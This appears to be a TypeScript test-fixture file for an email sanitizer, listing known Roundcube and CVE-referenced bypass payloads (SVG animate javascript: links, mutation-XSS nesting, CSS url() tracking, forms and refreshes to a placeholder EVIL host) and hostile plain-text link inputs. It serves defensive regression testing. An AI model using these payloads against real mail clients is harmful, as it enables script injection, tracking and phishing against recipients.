/**
 * Ways round the cleaners of mail readers that became known, each written anew after what its report says. In each, EVIL is an address that
 * must not be asked for anything, HOST its host, and RUN script that must not run; WORDS are harmless and must still be read.
 */
export const BYPASSES: [known: string, html: string][] = [
  // Roundcube
  ['Roundcube #6178: image is img', 'WORDS<image src="EVIL/a"><image xlink:href="EVIL/a">'],
  ['Roundcube #6178: url in escapes', '<p style="background:\\75\\72\\6c(EVIL/a)">WORDS</p>'],
  ['Roundcube #6178: url in escapes with spaces', '<p style="background:\\75 \\72 \\6c (EVIL/a)">WORDS</p>'],
  ['Roundcube #6178: url escaped in a sheet', '<style>p{background:\\000075rl(EVIL/a)}</style><p>WORDS</p>'],
  [
    'Roundcube #5583: an input that is a picture',
    '<p>WORDS</p><input type="image" src="EVIL/a" formaction="EVIL/b">',
  ],
  ['Roundcube #5583: a poster', '<p>WORDS</p><video poster="EVIL/a" src="EVIL/b" autoplay></video>'],
  [
    'Roundcube #6898: position with a space',
    '<div style="position : fixed;inset:0;background:red">WORDS</div>',
  ],
  [
    'Roundcube #6898: position that is important',
    '<div style="position:fixed !important;inset:0">WORDS</div>',
  ],
  [
    'CVE-2026-35544: position in a sheet',
    '<style>div{position:absolute!important;top:-999px}</style><div>WORDS</div>',
  ],
  ['CVE-2026-35544: position in escapes', '<div style="p\\6fsition:fixed;inset:0">WORDS</div>'],
  ['CVE-2026-35544: position behind a comment', '<div style="position/**/:fixed;inset:0">WORDS</div>'],
  [
    'CVE-2023-5631: use of a picture in data',
    '<p>WORDS</p><svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgeG1sbnM9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48aW1hZ2UgaHJlZj0ieDp4IiBvbmVycm9yPSJhbGVydCgxKSIvPjwvc3ZnPg==#x"></use></svg>',
  ],
  [
    'CVE-2024-37383: animate of "href "',
    '<p>WORDS</p><svg><a><animate attributeName="href " values="javascript:RUN" dur="1s" repeatCount="indefinite" /><text y="20">a</text></a></svg>',
  ],
  [
    'CVE-2025-68461: animate by',
    '<p>WORDS</p><svg><a href="#a"><animate attributeName="href" by="javascript:RUN" dur="1s" /><text y="20">a</text></a></svg>',
  ],
  [
    'CVE-2025-68461: animate from and to',
    '<p>WORDS</p><svg><a><animate attributeName="xlink:href" from="javascript:RUN" to="javascript:RUN" /><text y="20">a</text></a></svg>',
  ],
  [
    'CVE-2026-35543: set of a style',
    '<p>WORDS</p><svg><rect width="9" height="9"><set attributeName="style" to="fill:url(EVIL/a)" /></rect></svg>',
  ],
  [
    'CVE-2026-35543: animate of a fill',
    '<p>WORDS</p><svg><rect width="9" height="9"><animate attributeName="fill" values="url(EVIL/a#b)" dur="1s" /></rect></svg>',
  ],
  [
    'CVE-2026-48848: animate of a picture',
    '<p>WORDS</p><svg><image width="9" height="9"><animate attributeName="href" values="EVIL/a;EVIL/b" dur="1s" /></image></svg>',
  ],
  [
    'CVE-2026-48848: motion along a path elsewhere',
    '<p>WORDS</p><svg><rect width="9" height="9"><animateMotion dur="1s"><mpath href="EVIL/a#b" /></animateMotion></rect></svg>',
  ],
  [
    'CVE-2026-35545: fill',
    '<p>WORDS</p><svg><rect width="9" height="9" fill="url(EVIL/a)" stroke="url(EVIL/b)" /></svg>',
  ],
  [
    'CVE-2026-35545: fill in a style',
    '<p style="fill:url(EVIL/a);stroke:url(EVIL/b);filter:url(EVIL/c)">WORDS</p>',
  ],
  [
    'CVE-2026-35545: markers',
    '<p>WORDS</p><svg><path d="M0 0L9 9" marker-start="url(EVIL/a#b)" cursor="url(EVIL/c)" /></svg>',
  ],
  ['Roundcube 1.7.4: url that never closes', '<p style="background:url(EVIL/a">WORDS</p>'],
  ['Roundcube 1.7.4: url that never closes, in quotes', `<p style="background:url('EVIL/a">WORDS</p>`],
  [
    'Roundcube 1.7.4: ampersands in styles',
    '<p style="background:u&amp;#114;l(EVIL/a)">WORDS</p><p style="background&amp;colon;url(EVIL/b)">a</p>',
  ],
  [
    'Roundcube 1.7.4: nesting by ampersand',
    '<style>p{&{background:url(EVIL/a)}&:hover{background:url(EVIL/b)}}</style><p>WORDS</p>',
  ],
  [
    'CVE-2026-35542: background of a body',
    '<body background="EVIL/a" style="background:url(EVIL/b)"><p>WORDS</p>',
  ],
  ['CVE-2026-48846: variables', '<p style="--a:url(EVIL/a);background-image:var(--a)">WORDS</p>'],
  [
    'CVE-2026-48846: variables of a sheet',
    '<style>*{--a:url(EVIL/a)}p{background:var(--a,url(EVIL/b))}</style><p>WORDS</p>',
  ],
  [
    'CVE-2026-48846: declared properties',
    `<style>@property --a{syntax:'<image>';inherits:true;initial-value:url(EVIL/a)}p{background:var(--a)}</style><p>WORDS</p>`,
  ],
  [
    'CVE-2026-35540, -48843, -62643: sheets from elsewhere',
    '<link rel="stylesheet" href="EVIL/a"><style>@import url(EVIL/b);@import "EVIL/c" layer(x);</style><p>WORDS</p>',
  ],
  [
    'fonts from elsewhere',
    '<style>@font-face{font-family:a;src:url(EVIL/a) format("woff2")}p{font-family:a}</style><p>WORDS</p>',
  ],

  // Cleaners
  ['CVE-2026-44990: xmp', '<p>WORDS</p><xmp></xmp><img src=x:x onerror=RUN></xmp>'],
  [
    'CVE-2026-44990: listing and plaintext',
    '<p>WORDS</p><listing>&lt;img src=x:x onerror=RUN&gt;</listing><plaintext><img src=x:x onerror=RUN>',
  ],
  [
    'GHSA-gx9m-whjm-85jf: raw text in a textarea',
    '<p>WORDS</p><textarea></textarea/><img src=x:x onerror=RUN>',
  ],
  [
    'entities that open what was text',
    '<p>WORDS</p>&lt;img src=x:x onerror=RUN&gt;<b title="&lt;/b&gt;&lt;img src=x:x onerror=RUN&gt;">a</b>',
  ],
  [
    'nesting beyond what a browser keeps',
    `<p>WORDS</p>${'<b>'.repeat(600)}<table>${'<tr><td>'.repeat(5)}<style></table><img src=x:x onerror=RUN></style>`,
  ],
  [
    'math that turns into html',
    '<p>WORDS</p><math><mi><table><mglyph><nobr><style><!--</style><img src=x:x onerror=RUN>--></style>',
  ],
  [
    'mutation by a form in a form',
    '<p>WORDS</p><form><div></form><form><math><mtext></form><form><mglyph><style></math><img src=x:x onerror=RUN>',
  ],
  [
    'a comment within a comment',
    '<p>WORDS</p><!--<!--><img src=x:x onerror=RUN>--!><img src=x:x onerror=RUN>',
  ],
  ['a custom element', '<p>WORDS</p><x-a onclick="RUN" is="x-b" autofocus tabindex=1 onfocus="RUN">a</x-a>'],

  // What a page can do without script
  [
    'a form that sends itself elsewhere',
    '<p>WORDS</p><form action="EVIL/a" target="_top"><input name="b"><button formaction="EVIL/c" formtarget="_blank">d</button></form>',
  ],
  [
    'a page that goes elsewhere',
    '<p>WORDS</p><meta http-equiv="refresh" content="0;url=EVIL/a"><base href="EVIL/b" target="_top"><a href="c#d">e</a>',
  ],
  ['a dialog, open', '<dialog open style="position:fixed;inset:0;width:100vw;height:100vh">WORDS</dialog>'],
  [
    'a popover and its button',
    '<button popovertarget="a">WORDS</button><div popover id="a">b</div><button command="show-modal" commandfor="c">d</button><dialog id="c">e</dialog>',
  ],
  [
    'a link to what is no page',
    '<p>WORDS</p><a href="vbscript:RUN">a</a><a href="blob:EVIL/b">b</a><a href="file:///etc/passwd">c</a><a href="filesystem:EVIL/d">d</a><a href="intent:HOST">e</a>',
  ],
  [
    'a window of another name',
    '<p>WORDS</p><a href="javascript:RUN" target="_parent" download ping="EVIL/a" referrerpolicy="unsafe-url">a</a>',
  ],
  [
    'a map over the whole mail',
    '<p>WORDS</p><img usemap="#a" ismap src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><map name="a"><area href="javascript:RUN" shape="default" ping="EVIL/a"></map>',
  ],
  [
    'frames and what they bring',
    '<p>WORDS</p><iframe srcdoc="<script>parent.RUN</script>" allow="camera *"></iframe><portal src="EVIL/a"></portal><object data="EVIL/b"><embed src="EVIL/c"></object>',
  ],
  [
    'hints to fetch before',
    '<p>WORDS</p><link rel="preconnect dns-prefetch prefetch prerender" href="EVIL/a"><script type="speculationrules">{"prerender":[{"urls":["EVIL/b"]}]}</script>',
  ],
  [
    'selectors that spy',
    '<style>a[href^="https://HOST"]{background:url(EVIL/a)}:has(p)::after{content:url(EVIL/b)}@container (width>1px){p{background:url(EVIL/c)}}</style><p>WORDS</p>',
  ],
  [
    'media that spy',
    '<style>@media (min-width:1px){p{background:image-set(url(EVIL/a) 1x)}}@supports (x:y) or (not (x:y)){p{background:url(EVIL/b)}}</style><p>WORDS</p>',
  ],
  [
    'shapes, masks and borders',
    '<p style="shape-outside:url(EVIL/a);mask:url(EVIL/b);border-image:url(EVIL/c) 9;offset-path:url(EVIL/d#e);cursor:url(EVIL/f),auto">WORDS</p>',
  ],
  [
    'our own marks, taken',
    '<style>details,summary,.fold,.goes-to{display:none!important;position:fixed}</style><details class="fold" open ontoggle="RUN"><summary>WORDS</summary></details>',
  ],
]

/** Plain text is looked through for links, and so it can be hostile too (CVE-2023-43770, CVE-2026-54433). */
export const HOSTILE_TEXTS = [
  'http://HOST"onmouseover="RUN',
  '<http://HOST/"><img src=x:x onerror=RUN>',
  '[RUN](javascript:RUN) https://HOST/[a](javascript:RUN)',
  'https://HOST/&quot;&gt;&lt;img src=x:x onerror=RUN&gt;',
  'mailto:"><script>RUN</script>@HOST',
  'www.HOST/"style="position:fixed;inset:0"',
  'javascript:RUN data:text/html,<script>RUN</script> vbscript:RUN',
  'https://HOST/\u2028<img src=x:x onerror=RUN>',
  '> <img src=x:x onerror=RUN>\n>> <script>RUN</script>\n-- \n<svg onload=RUN>',
]
